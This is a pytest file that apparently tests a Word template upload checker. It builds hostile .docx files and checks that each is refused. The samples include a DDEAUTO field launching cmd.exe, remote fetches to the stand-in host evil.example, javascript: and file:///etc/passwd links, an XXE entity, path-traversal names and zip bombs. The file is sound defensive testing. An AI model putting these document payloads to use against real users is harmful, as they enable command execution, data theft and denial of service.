"""Templates that somebody uploads: what is refused, what is taken out, what is kept."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest

from tests.continuity.plan import office
from tests.continuity.plan.test_word import template
from weerbaar.continuity.documents.word_template import MAIN, checked_template
from weerbaar.interface.jobs import UserError

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = MAIN.replace("wordprocessingml", "spreadsheetml")
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def changed(
    *,
    edit: dict[str, Callable[[str], str]] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """The sound template with parts edited, added and left out."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template())) as old,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            part = old.read(name)
            if name in drop:
                continue
            if edit and name in edit:
                text = edit[name](part.decode())
                assert text != part.decode(), f"nothing was changed in {name}"
                part = text.encode()
            new.writestr(name, part)
        for name, part in (add or {}).items():
            new.writestr(name, part)
    return buffer.getvalue()


def link(kind: str, target: str, mode: str = ' TargetMode="External"') -> dict[str, Callable[[str], str]]:
    relationship = f'<Relationship Id="rIdEvil" Type="{RELATIONSHIP}/{kind}" Target="{target}"{mode}/>'
    return {
        "word/_rels/document.xml.rels": lambda text: text.replace(
            "</Relationships>", relationship + "</Relationships>"
        )
    }


def field(instruction: str) -> dict[str, Callable[[str], str]]:
    """A field whose instruction lies in pieces, as Word writes it."""
    half = len(instruction) // 2
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction[:half]}</w:instrText></w:r>'
        f"<w:r><w:instrText>{instruction[half:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return {"word/document.xml": lambda text: text.replace("<w:body>", f"<w:body><w:p>{runs}</w:p>", 1)}


def body(inner: str) -> dict[str, Callable[[str], str]]:
    return {"word/document.xml": lambda text: text.replace("<w:body>", f"<w:body>{inner}", 1)}


def bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "x")
        for number in range(9):
            archive.writestr(f"word/media/{number}.xml", b"0" * 10 * 1024 * 1024)
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """An archive whose table says that a member is small."""
    content = bytearray(bomb())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        struct.pack_into("<I", content, place + 24, 100)
        place += 4
    return bytes(content)


def twice() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("word/document.xml", "<b/>")
    return buffer.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "text": lambda: b"Dear mayor",
    "old word": lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600,
    "cut off": lambda: template()[:-200],
    "no document": lambda: changed(drop=("word/document.xml",)),
    "spreadsheet": lambda: changed(
        edit={"[Content_Types].xml": lambda text: text.replace(MAIN, SHEET)}
    ),
    "macro type": lambda: changed(
        edit={
            "[Content_Types].xml": lambda text: text.replace(
                MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"
            )
        }
    ),
    "macro part": lambda: changed(add={"word/vbaProject.bin": b"\0"}),
    "macro part elsewhere": lambda: changed(add={"custom/VBAPROJECT.BIN": b"\0"}),
    "activex": lambda: changed(add={"word/activeX/activeX1.xml": b"<a/>"}),
    "embedded": lambda: changed(add={"word/embeddings/oleObject1.bin": b"\0"}),
    "custom ui": lambda: changed(add={"customUI/customUI.xml": b"<a/>"}),
    "remote picture": lambda: changed(edit=link("image", "https://evil.example/x.png")),
    "remote frame": lambda: changed(edit=link("frame", "https://evil.example/")),
    "remote object": lambda: changed(edit=link("oleObject", "mhtml:https://evil.example/x!y")),
    "remote share": lambda: changed(edit=link("image", r"file://\\evil\share\x.png")),
    "script link": lambda: changed(edit=link("hyperlink", "javascript:alert(1)")),
    "file link": lambda: changed(edit=link("hyperlink", "file:///etc/passwd")),
    "chunk": lambda: changed(edit=link("aFChunk", "x.html", "")),
    "alternative chunk": lambda: changed(edit=body('<w:altChunk xmlns:r="x" r:id="rId1"/>')),
    "object": lambda: changed(edit=body("<w:p><w:r><w:object/></w:r></w:p>")),
    "dde": lambda: changed(edit=field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "include": lambda: changed(edit=field(r'INCLUDETEXT "https://evil.example/x"')),
    "simple field": lambda: changed(
        edit=body('<w:p><w:fldSimple w:instr=" includepicture &quot;https://evil.example&quot; "/></w:p>')
    ),
    "entities": lambda: changed(
        edit={
            "word/document.xml": lambda text: text.replace(
                "<w:document", '<!DOCTYPE d [<!ENTITY a "b">]><w:document', 1
            )
        }
    ),
    "external entity": lambda: changed(
        edit={
            "docProps/core.xml": lambda text: text.replace(
                "<cp:core", '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><cp:core', 1
            )
        }
    ),
    "broken xml": lambda: changed(edit={"word/styles.xml": lambda text: text[: len(text) // 2]}),
    "escaping name": lambda: changed(add={"../../evil.xml": b"<a/>"}),
    "absolute name": lambda: changed(add={"/etc/evil.xml": b"<a/>"}),
    "windows name": lambda: changed(add={"word\\..\\evil.xml": b"<a/>"}),
    "same name in capitals": lambda: changed(add={"WORD/document.XML": b"<a/>"}),
    "bomb": bomb,
    "lying bomb": lying_bomb,
    "twice": twice,
    "too large": lambda: b"PK" + b"\0" * (11 * 1024 * 1024),
    "many members": lambda: changed(add={f"word/media/{n}.png": b"" for n in range(1100)}),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_uploads_are_refused_with_words(name: str) -> None:
    with pytest.raises(UserError) as refused:
        checked_template(HOSTILE[name]())
    assert len(refused.value.nl) > 20
    assert len(refused.value.en) > 20


def test_a_sound_template_passes_whole() -> None:
    before, after = office.parts_of(template()), office.parts_of(checked_template(template()).content)
    assert before == after


def test_links_to_web_pages_stay_and_the_template_link_is_taken_out() -> None:
    def settings(text: str) -> str:
        return text.replace("<w:settings", "<w:settings", 1).replace(
            "<w:zoom", f'<w:attachedTemplate xmlns:r="{RELATIONSHIP}" r:id="rId77"/><w:zoom', 1
        )

    relationships = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId77" Type="{RELATIONSHIP}/attachedTemplate" '
        'Target="file:///C:/Huisstijl.dotm" TargetMode="External"/></Relationships>'
    )
    content = checked_template(
        changed(
            edit={**link("hyperlink", "https://www.kleinstad.example/"), "word/settings.xml": settings},
            add={"word/_rels/settings.xml.rels": relationships.encode()},
        )
    ).content
    parts = office.parts_of(content)
    assert b"Huisstijl" not in b"".join(parts.values())
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"https://www.kleinstad.example/" in parts["word/_rels/document.xml.rels"]
    office.check_package(content)


def test_an_attached_template_written_unusually_is_refused() -> None:
    relationships = (
        '<?xml version="1.0"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<r:Relationship Id="rId77" Type="{RELATIONSHIP}/attachedTemplate" '
        'Target="https://evil.example/x.dotm" TargetMode="External"/></r:Relationships>'
    )
    with pytest.raises(UserError, match="another template"):
        checked_template(changed(add={"word/_rels/settings.xml.rels": relationships.encode()}))
